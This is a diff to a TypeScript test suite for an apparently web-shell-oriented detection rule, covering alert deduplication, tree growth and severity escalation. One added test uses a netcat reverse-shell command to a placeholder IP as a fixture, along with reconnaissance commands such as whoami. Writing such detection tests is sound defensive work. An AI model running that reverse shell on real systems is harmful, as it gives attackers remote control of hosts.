@@ -68,9 +68,13 @@ const work = (id: string, second: number): SourceEvent =>
 /** A host with the extended rule; events can be added between runs. */
 const createHost = (
   events: SourceEvent[],
-  { mostAlerts = 1000, ...params }: Partial<RuleParams> & { mostAlerts?: number } = {}
+  {
+    mostAlerts = 1000,
+    forgets = false,
+    ...params
+  }: Partial<RuleParams> & { mostAlerts?: number; forgets?: boolean } = {}
 ) => {
-  const memory = createMemoryAdapters([], mostAlerts);
+  const memory = createMemoryAdapters([], mostAlerts, forgets);
   const { reader } = createEqlEventReader(events);
   const execute = createExecutor(
     { ...memory.adapters, createEventReader: () => reader },
@@ -79,6 +83,10 @@ const createHost = (
   );
   let state: RuleState = {};
   return {
+    /** What alerting keeps of the last run's alerts is lost. */
+    forget: () => {
+      state = { ...state, unconfirmed: [] };
+    },
     async runAt(second: number) {
       const { run, outcome } = createRuleRun({
         startedAt: new Date(NOON + second * 1000).toISOString(),
@@ -89,7 +97,11 @@ const createHost = (
       ({ state } = await execute(run));
       const raised = [...memory.reported];
       memory.storeReported();
-      return { raised: raised.map(({ payload }) => payload), outcome: outcome.join(' ') };
+      return {
+        reports: raised,
+        raised: raised.map(({ payload }) => payload),
+        outcome: outcome.join(' '),
+      };
     },
   };
 };
@@ -119,7 +131,7 @@ it('raises one alert for an attack, with its grade, its reasons and all its even
   expect(outcome).toContain('1 command run through web servers was seen');
 });
 
-it('raises a tree once, however often and by whichever of its programs it is found', async () => {
+it('raises a tree once, by whichever of its programs it is found', async () => {
   const again = toEvent({
     id: 'x',
     second: 130,
@@ -128,9 +140,11 @@ it('raises a tree once, however often and by whichever of its programs it is fou
   });
   const events = [attack('sh', 100)];
   const host = createHost(events);
-  expect((await host.runAt(120)).raised).toHaveLength(1);
+  const first = await host.runAt(120);
   events.push(again);
-  expect((await host.runAt(180)).raised).toEqual([]);
+  const second = await host.runAt(180);
+  expect(toIds(second)).toEqual(toIds(first));
+  expect(second.outcome).toContain('0 new alerts');
   expect((await host.runAt(240)).raised).toEqual([]);
 });
 
@@ -217,4 +231,69 @@ it('lets several questions by hand through one server raise each other, across i
   const riskOf = ({ raised }: typeof alone): unknown =>
     raised.find((alert) => alert[ALERT_FIELD.ancestorId] === 'a')?.[ALERT_FIELD.riskScore];
   expect(riskOf(together)).toBeGreaterThan(Number(riskOf(alone)));
+});
+
+const grown = (id: string, second: number, args: readonly string[]): SourceEvent =>
+  toEvent({ id, second, args, parent: below('sh', 'sh'), ancestry: ['sh', 'worker'] });
+const toIds = ({ reports }: { reports: readonly { instanceId: string }[] }): string[] =>
+  reports.map(({ instanceId }) => instanceId.replace(/^.*-default:/, ''));
+
+it('reports a tree again that grew, as the same alert with all its events, and only then', async () => {
+  const events = [attack('sh', 0)];
+  const host = createHost(events);
+  const [id] = toIds(await host.runAt(60));
+  expect(toIds(await host.runAt(120))).toEqual([]);
+  events.push(grown('ls', 125, ['ls']));
+  const again = await host.runAt(190);
+  expect(toIds(again)).toEqual([id]);
+  expect(again.raised[0]).toMatchObject({ [ALERT_FIELD.treeEvents]: ['sh', 'ls'] });
+  expect(again.outcome).toContain('0 new alerts');
+});
+
+it('raises a further alert of a tree whose severity rises', async () => {
+  const events = [toEvent({ id: 'sh', second: 0, args: ['sh', '-c', 'whoami'] })];
+  const host = createHost(events, { minimumRisk: 1 });
+  const [before] = toIds(await host.runAt(60));
+  events.push(grown('nc', 70, ['nc', '-e', '/bin/sh', '203.0.113.9', '4444']));
+  const after = await host.runAt(130);
+  expect(toIds(after)).toEqual(['sh:critical']);
+  expect(before).toBe('sh:medium');
+  expect(after.outcome).toContain('1 new alert');
+});
+
+it('keeps a tree reported that alerting would otherwise forget, for as long as its root is found', async () => {
+  const host = createHost([attack('sh', 0)], { forgets: true });
+  const [id] = toIds(await host.runAt(10));
+  expect(toIds(await host.runAt(40))).toEqual([id]);
+  expect(toIds(await host.runAt(300))).toEqual([id]);
+  expect(toIds(await host.runAt(900))).toEqual([]);
+});
+
+it('does not report again what alerting has forgotten: that would be another document', async () => {
+  const events = [attack('sh', 0)];
+  const first = createHost(events, { forgets: true });
+  await first.runAt(10);
+  first.forget();
+  events.push(grown('ls', 60, ['ls']));
+  expect(toIds(await first.runAt(120))).toEqual([]);
+});
+
+it('never makes an alert less grave, whatever is out of sight by then', async () => {
+  const ask = (id: string, second: number, command: string, worker: string): SourceEvent =>
+    toEvent({
+      ...{ id, second, args: ['sh', '-c', command], ancestry: [worker] },
+      parent: { ...FPM, entity_id: worker },
+    });
+  const host = createHost(
+    [
+      ask('a', 0, 'whoami', 'w1'),
+      ask('b', -500, 'uname -a', 'w2'),
+      ask('c', -490, 'ls -la /home', 'w3'),
+    ],
+    { minimumRisk: 1, forgets: true }
+  );
+  const riskOf = ({ raised }: { raised: readonly Record<string, unknown>[] }): unknown =>
+    raised.find((alert) => alert[ALERT_FIELD.ancestorId] === 'a')?.[ALERT_FIELD.riskScore];
+  const together = riskOf(await host.runAt(10));
+  expect(riskOf(await host.runAt(300))).toBe(together);
 });
